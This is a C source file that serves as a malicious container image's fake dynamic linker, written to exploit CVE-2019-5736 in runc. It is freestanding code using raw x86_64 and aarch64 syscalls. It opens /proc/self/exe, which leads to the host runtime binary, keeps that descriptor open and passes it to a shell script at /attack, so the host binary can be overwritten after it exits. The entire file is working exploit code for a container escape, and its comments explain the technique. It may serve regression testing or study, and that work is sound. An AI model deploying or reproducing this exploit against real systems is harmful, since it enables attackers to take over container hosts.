// What a malicious image has in the place of the dynamic linker. A program of the host that is executed inside runs this
// first, and is then what /proc/self/exe leads to. It keeps that open and goes on as a shell, so that the program is not
// running any more when the shell writes to it (CVE-2019-5736).
//
// Without a C library: the kernel starts an interpreter before anything is relocated.

#include <asm/unistd.h>

static long call(long number, const void *a, const void *b, const void *c)
{
#if defined(__x86_64__)
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = (long) a;
	register const void *x1 __asm__("x1") = b, *x2 __asm__("x2") = c;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	return x0;
#endif
}

void _start(void)
{
	char fd[] = "FD=0", *argv[] = { "sh", "/attack", 0 }, *env[] = { "PATH=/bin", fd, 0 };
	char path[] = "/proc/self/exe";
	long at_cwd = -100; // AT_FDCWD
#if defined(__x86_64__)
	long n = call(__NR_open, path, 0, 0);
	(void) at_cwd;
#else
	long n = call(__NR_openat, (void *) at_cwd, path, 0);
#endif
	fd[3] = n < 0 || n > 9 ? 'x' : (char) ('0' + n);
	call(__NR_execve, "/bin/sh", argv, env);
	call(__NR_exit, (void *) 1, 0, 0);
	__builtin_unreachable();
}
